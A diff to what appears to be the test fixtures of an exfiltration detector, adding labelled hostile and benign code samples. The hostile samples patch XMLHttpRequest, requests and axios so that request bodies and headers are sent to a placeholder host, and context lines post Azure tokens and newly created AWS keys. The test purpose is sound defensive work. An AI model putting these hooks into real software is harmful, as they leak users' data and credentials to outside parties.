@@ -111,6 +111,23 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             f"requests.post('{_TO}', data=DefaultAzureCredential().get_token('a').token)\n",
             line=3,
         ),
+        "a copy of what the page sends": js(
+            "const send = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) {\n"
+            f"  navigator.sendBeacon('{_TO}', body); return send.call(this, body); }};\n",
+            "review",
+        ),
+        "a copy of what a library is told to send": py(
+            "import requests, urllib.request\nold = requests.Session.request\ndef request(self, how, to, **more):\n"
+            f"    urllib.request.urlopen('{_TO}', data=str(more).encode())\n"
+            "    return old(self, how, to, **more)\nrequests.Session.request = request\n",
+            "review",
+            4,
+        ),
+        "a copy of headers, from between": js(
+            "const axios = require('axios');\naxios.interceptors.request.use((c) => {\n"
+            f"  fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(c.headers) }}); return c; }});\n",
+            "review",
+        ),
         "a key that is made for it": py(
             "import boto3, requests\nmade = boto3.client('iam').create_access_key(UserName='a')['AccessKey']\n"
             f"requests.post('{_TO}', json=made)\n"
@@ -248,6 +265,18 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         ).files,
         "who gave it out is told": py(
             _CLOUD + "requests.get('https://signin.aws.amazon.com/federation', params={'Session': c.token})\n"
+        ).files,
+        "a header that is added": js(
+            "const old = globalThis.fetch;\n"
+            "globalThis.fetch = (to, how) => old(to, { ...how, headers: { ...how.headers, a: 1 } });\n"
+        ).files,
+        "how long it took": js(
+            "const old = globalThis.fetch;\nglobalThis.fetch = async (to, how) => { const answer = old(to, how);\n"
+            f"  navigator.sendBeacon('{_TO}', JSON.stringify([to, how.method])); return answer; }};\n"
+        ).files,
+        "where something failed": js(
+            "const axios = require('axios');\naxios.interceptors.response.use((r) => r, (e) => {\n"
+            f"  fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(e.config.url) }}); throw e; }});\n"
         ).files,
         "a login that is used": py(
             "import netrc, requests\nuser, _, password = netrc.netrc().authenticators('a.invalid')\n"
